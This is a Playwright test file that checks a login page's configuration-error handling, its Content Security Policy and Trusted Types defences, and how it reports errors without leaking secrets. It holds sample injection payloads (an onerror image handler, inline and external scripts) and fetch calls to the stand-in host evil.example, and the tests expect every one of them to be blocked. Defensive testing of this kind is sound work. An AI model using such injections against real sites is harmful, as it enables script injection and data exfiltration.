import type { Page } from '@playwright/test';
import { configurePage } from '../fixtures/configure-page.ts';
import { ADA } from '../fixtures/sign-in.ts';
import { expect, test } from '../fixtures/test.ts';

test.use({ readsOnly: true });

const REPORT_URL = '/mock/v1/reports';

test('with a wrong API address no API is called, and the form says so', async ({ page, problems }) => {
  problems.allow(/app-config: apiBaseUrl must be a web address/);
  const calls: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/api/v1/')) calls.push(request.url());
  });
  await configurePage(page, { apiBaseUrl: 5, reportUrl: REPORT_URL });
  await page.goto('/login');

  await page.getByLabel('Email', { exact: true }).fill(ADA.email);
  await page.getByLabel('Password', { exact: true }).fill(ADA.password);
  await page.getByRole('button', { name: 'Log In', exact: true }).click();

  // A toast has the same text.
  const words = page.getByRole('form').getByText('This app is not set up correctly, so nothing was sent.');
  await expect(words).toContainText('Code: apiBaseUrl');
  await expect(page.getByLabel('Email', { exact: true })).toHaveValue(ADA.email);
  expect(calls).toEqual([]);
  // Leaving the page before this script has run would report nothing.
  await page.goto('about:blank');
  await expect
    .poll(async () => (await page.request.get(REPORT_URL)).text())
    .toContain('configuration:apiBaseUrl:unreadable');
});

function addScript(page: Page, property: 'src' | 'text', value: string): Promise<void> {
  return page.evaluate(
    ([name, text]) => {
      const script = document.createElement('script');
      // Bypasses Trusted Types, like markup in a document.
      if (name === 'src') script.setAttribute('src', text);
      else script.append(text);
      document.body.append(script);
    },
    [property, value] as const,
  );
}

const FORBIDDEN: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'a script of another site': (page) => addScript(page, 'src', 'https://evil.example/x.js'),
  'a script written into the page': (page) => addScript(page, 'text', 'window.ran = true'),
  'a handler in markup': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = true">');
    }),
  'a text that is run': (page) =>
    page.evaluate(() => void Reflect.apply(setTimeout, window, ['window.ran = true'])),
  'a call to another site': (page) => page.evaluate(() => fetch('https://evil.example/')),
};

test('the policy of the page stops foreign scripts and calls', async ({ page, problems }) => {
  problems.allow(/policy|TrustedHTML|TrustedScript/i);
  const refusals = () => problems.seen(/policy: |Content Security Policy|TrustedScript/);
  for (const [what, attempt] of Object.entries(FORBIDDEN))
    await test.step(what, async () => {
      await page.goto('/login');
      const refused = refusals();

      // Some throw, others are ignored.
      await attempt(page).catch(() => null);

      await expect.poll(refusals).toBeGreaterThan(refused);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    });
});

test('reports: crashes and forbidden calls without typed text', async ({ page, problems }) => {
  problems.allow(/private|policy|evil\.example|ERR_BLOCKED/i);
  const received = async () => (await page.request.get(REPORT_URL)).text();
  await configurePage(page, { reportUrl: REPORT_URL });
  await page.goto('/login?token=secret');
  await page.getByLabel('Email', { exact: true }).fill('private@amana.test');

  await page.evaluate(async () => {
    const happened = ['error', 'securitypolicyviolation'].map(
      (type) => new Promise((resolve) => addEventListener(type, resolve, { once: true })),
    );
    setTimeout(() => {
      throw new TypeError('private text');
    });
    fetch('https://evil.example/private').catch(() => null);
    await Promise.all(happened);
  });

  for (const code of ['connect-src:evil.example', 'TypeError'])
    await expect.poll(received).toContain(`"${code}`);
  const reports = await received();
  expect(reports).toContain('"/login"');
  expect(reports).not.toMatch(/private|secret/);
});
